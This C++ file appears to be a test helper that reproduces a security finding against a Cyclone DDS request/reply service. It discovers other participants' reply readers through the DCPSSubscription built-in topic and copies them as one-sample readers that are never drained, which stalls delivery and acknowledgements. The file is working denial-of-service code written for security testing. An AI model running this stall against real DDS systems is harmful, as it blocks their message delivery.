// The attack of issue 38, finding 6, in a process of its own (a reader whose history is full
// blocks its whole process's DDS delivery in Cyclone 0.10): a participant that finds another
// participant's reply readers through discovery (the built-in DCPSSubscription topic, as any
// participant, or under DDS Security any of the same identity, sees them) and makes a reader of
// the same topic in the same reply partition, which holds one reply and is never read. Its
// delivery stalls at the second reply, so it never acknowledges anything again: a reliable
// writer that waits for every matched reader would wait for it for ever.
//
//   stalled_reader DOMAIN SECONDS
//
// Uses $CYCLONEDDS_URI when set (a secure identity's configuration), else the loopback one.
// Prints "stalling TOPIC in PARTITION" for each reader it made, once that reader has matched a
// writer (the service's), and "holding a reply of TOPIC in PARTITION" once the reader holds its
// one reply (so the writer has matched it too); stays, never taking a sample, for SECONDS and
// leaves as a crash would.
// Exit status: 0 done, 2 usage, 3 found no reply reader to copy within 30 s.
#include <unistd.h>

#include <array>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <optional>
#include <set>
#include <string>
#include <thread>
#include <utility>
#include <vector>

#include <dds/dds.h>

#include "protocol/calculation.h"
#include "protocol/dds_entity.h"
#include "protocol/matching.h"
#include "protocol/names.h"
#include "protocol/qos.h"
#include "protocol/samples.h"
#include "protocol/topics.h"
#include "tests/service/service_process.h"

namespace {

using gc::protocol::check_dds;
using gc::protocol::Entity;
using Clock = std::chrono::steady_clock;

struct Stall {
  std::string topic;
  std::string partition;
  Entity subscriber;
  Entity reader;
  bool announced = false;
};

}  // namespace

int main(int argc, char** argv) {
  if (argc != 3) return 2;
  const int domain = std::atoi(argv[1]);
  const double seconds = std::atof(argv[2]);
  if (!(seconds > 0.0 && seconds <= 600.0)) return 2;
  if (std::getenv("CYCLONEDDS_URI") == nullptr) gc::test::use_loopback_config();

  const Entity participant(check_dds(dds_create_participant(domain, nullptr, nullptr), "participant"));
  dds_guid_t own{};
  check_dds(dds_get_guid(participant.get(), &own), "dds_get_guid");
  const std::array<Entity, gc::protocol::kCalculationCount> topics = gc::protocol::make_reply_topics(participant.get());
  const Entity subscriptions(check_dds(
      dds_create_reader(participant.get(), DDS_BUILTIN_TOPIC_DCPSSUBSCRIPTION, nullptr, nullptr),
      "dds_create_reader(DCPSSubscription)"));

  std::vector<Stall> stalls;
  std::set<std::pair<std::string, std::string>> seen;
  // A reader that holds a single reply and is never read: at the second its process's delivery
  // stops, acknowledgements included.
  const gc::protocol::Qos qos = gc::protocol::request_reply_qos();
  dds_qset_resource_limits(qos.get(), 1, DDS_LENGTH_UNLIMITED, DDS_LENGTH_UNLIMITED);
  // Copies every other participant's reply readers seen within the first 30 s, until at least
  // one of its own has matched a writer; then a further 2 s for the victim's other readers.
  const Clock::time_point give_up = Clock::now() + std::chrono::seconds(30);
  std::optional<Clock::time_point> settle_until;
  while (Clock::now() < give_up && (!settle_until || Clock::now() < *settle_until)) {
    gc::protocol::LoanedSamples<dds_builtintopic_endpoint_t> samples(subscriptions.get());
    for (std::size_t i = 0; i < samples.size(); ++i) {
      if (!samples.info(i).valid_data) continue;
      const dds_builtintopic_endpoint_t& endpoint = samples[i];
      if (std::memcmp(endpoint.participant_key.v, own.v, sizeof(own.v)) == 0) continue;
      const auto calculation = gc::protocol::calculation_of_reply_topic(endpoint.topic_name);
      uint32_t count = 0;
      char** partitions = nullptr;
      if (!calculation || endpoint.qos == nullptr ||
          !dds_qget_partition(endpoint.qos, &count, &partitions)) {
        continue;
      }
      for (uint32_t p = 0; p < count; ++p) {
        const std::string partition = partitions[p];
        dds_free(partitions[p]);
        if (!gc::protocol::client_id_of_reply_partition(partition)) continue;
        if (!seen.insert({endpoint.topic_name, partition}).second) continue;
        Stall stall{endpoint.topic_name, partition, {}, {}};
        const gc::protocol::Qos in = gc::protocol::partition_qos(partition);
        stall.subscriber = Entity(check_dds(
            dds_create_subscriber(participant.get(), in.get(), nullptr), "dds_create_subscriber"));
        stall.reader = Entity(check_dds(
            dds_create_reader(stall.subscriber.get(),
                              topics[gc::protocol::index_of(*calculation)].get(), qos.get(), nullptr),
            "dds_create_reader"));
        stalls.push_back(std::move(stall));
      }
      dds_free(partitions);
    }
    for (Stall& stall : stalls) {
      if (stall.announced || dds_get_matched_publications(stall.reader.get(), nullptr, 0) <= 0) {
        continue;
      }
      stall.announced = true;
      std::printf("stalling %s in %s\n", stall.topic.c_str(), stall.partition.c_str());
      std::fflush(stdout);
      if (!settle_until) settle_until = Clock::now() + std::chrono::seconds(2);
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  }
  if (!settle_until) return 3;
  // Says when each reader holds its one reply (read, never taken: it keeps its place), i.e. the
  // service's writer has matched it too and from then on waits in vain for its acknowledgements.
  const Clock::time_point end =
      Clock::now() + std::chrono::duration_cast<Clock::duration>(std::chrono::duration<double>(seconds));
  std::vector<bool> holding(stalls.size(), false);
  while (Clock::now() < end) {
    for (std::size_t k = 0; k < stalls.size(); ++k) {
      if (holding[k]) continue;
      void* sample[1] = {nullptr};
      dds_sample_info_t info;
      const dds_return_t n = dds_read(stalls[k].reader.get(), sample, &info, 1, 1);
      if (n <= 0) continue;
      dds_return_loan(stalls[k].reader.get(), sample, n);
      holding[k] = true;
      std::printf("holding a reply of %s in %s\n", stalls[k].topic.c_str(),
                  stalls[k].partition.c_str());
      std::fflush(stdout);
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  }
  _exit(0);  // deleting a reader whose delivery is stalled could wait: leave as a crash would
}
